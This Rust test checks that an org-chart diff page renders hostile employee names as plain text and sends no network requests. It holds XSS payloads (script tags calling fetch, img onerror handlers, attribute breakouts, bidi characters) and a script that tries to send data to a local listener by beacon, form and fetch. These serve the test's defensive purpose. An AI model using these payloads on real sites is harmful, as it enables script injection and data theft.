//! Hostile names stay text, and nothing leaves the page.

use std::net::TcpListener;

use serde_json::json;

use super::driver::Browser;
use super::{company, folder, page};

#[test]
fn hostile_names_are_text_and_nothing_leaves_the_page() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
    listener.set_nonblocking(true).expect("it can be asked without waiting");
    let elsewhere = format!("http://{}", listener.local_addr().expect("bound"));
    let hostile = [
        format!("</script><script>fetch('{elsewhere}')</script>"),
        format!("<img src={elsewhere} onerror=document.title=1>"),
        "</details></table></noscript><style>*{display:none}</style>".to_owned(),
        "\\\" onmouseover=\\\"document.title=1".to_owned(),
        "\\u202Egnissim\\u2066 \\u2028 \\u200Bx".to_owned(),
        "-->]]>{{x}}${document.title=1}".to_owned(),
        format!("{}</b>", "Ünü".repeat(3400)),
    ];
    let old = company(0..1);
    let mut new = old.replace("name: Department 3", "name: \"</svg><script>document.title=1</script>\"");
    for (n, name) in hostile.iter().enumerate() {
        new.push_str(&format!("  - {{ code: \"<b>{n}\", first_name: \"{name}\", department: D3 }}\n"));
    }
    let work = folder(&old, &new);
    let browser = Browser::start();
    let file = page(&work);
    browser.requests();
    browser.open(&file);
    assert_eq!(browser.count("tr.change"), 8);
    assert_eq!(browser.ask("document.title"), json!("Plan of hq"));
    let shown = browser.text("table.changes");
    for text in
        ["</script><script>fetch(", "<b>0", "\" onmouseover=\"", "\\u{202e}gnissim\\u{2066}", "-->]]>{{x}}${"]
    {
        assert!(shown.contains(text), "{text}: {}", &shown[..2000.min(shown.len())]);
    }
    assert_eq!(
        browser.count("table.changes script, table.changes img, table.changes style, .pictures script"),
        0
    );
    // A name of 10 KB takes no more room than others, and pushes nothing aside.
    assert_eq!(browser.ask("document.documentElement.scrollWidth <= innerWidth"), json!(true));
    assert_eq!(
        browser.ask("[...document.querySelectorAll('tr.change')].every((row) => row.offsetHeight < 400)"),
        json!(true)
    );
    assert_eq!(browser.console(), Vec::<String>::new());
    let asked = browser.requests();
    assert!(
        !asked.is_empty() && asked.iter().all(|url| url.starts_with("file:") || url.starts_with("data:")),
        "{asked:?}"
    );

    // Even a script that got in could not load or send anything.
    let tries = format!(
        "(async () => {{
            const image = new Image(); image.src = '{elsewhere}/image';
            const frame = document.createElement('iframe'); frame.src = '{elsewhere}/frame'; document.body.append(frame);
            const script = document.createElement('script'); script.textContent = 'document.title = 1'; document.body.append(script);
            const form = document.createElement('form'); form.action = '{elsewhere}/form'; document.body.append(form); form.submit();
            navigator.sendBeacon('{elsewhere}/beacon', 'x');
            return fetch('{elsewhere}/fetch').then(() => 'sent', () => 'kept');
        }})()"
    );
    assert_eq!(browser.ask(&tries), json!("kept"));
    assert_eq!(browser.ask("document.title"), json!("Plan of hq"));
    assert!(listener.accept().is_err(), "something was sent");
    assert!(browser.console().iter().any(|line| line.contains("Content Security Policy")));
}
